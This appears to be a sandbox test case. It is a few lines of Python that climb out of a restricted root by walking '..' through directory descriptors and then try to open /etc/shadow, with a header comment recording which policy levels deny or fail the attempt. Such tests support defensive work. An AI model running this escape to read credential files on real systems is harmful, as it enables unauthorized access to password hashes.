# maximum=denied! strict=failed! standard=failed! minimal=failed!; UnauthorizedFileAccess High read "/etc/shadow"; climbs out by a directory's descriptor
import os
fd = os.open("/", os.O_PATH | os.O_DIRECTORY)
for _ in range(20):
    fd = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=fd)
print(os.open("etc/shadow", os.O_RDONLY, dir_fd=fd), "ESCAPED")
